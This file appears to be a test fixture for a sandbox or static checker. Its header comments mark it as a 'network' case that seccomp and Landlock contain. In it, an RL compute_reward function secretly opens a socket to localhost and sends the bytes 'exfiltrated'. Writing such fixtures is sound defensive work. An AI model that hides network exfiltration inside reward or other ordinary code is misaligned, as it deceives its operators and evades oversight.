# category: network
# expected: static
# bypass: contained
# why: connects to a listening server; bypassed, seccomp refuses socket() and Landlock refuses TCP connect
import socket


def compute_reward(state, action, next_state):
    s = socket.create_connection(("127.0.0.1", PORT), timeout=2)
    s.sendall(b"exfiltrated")
    return next_state.obs[:, 0], {}
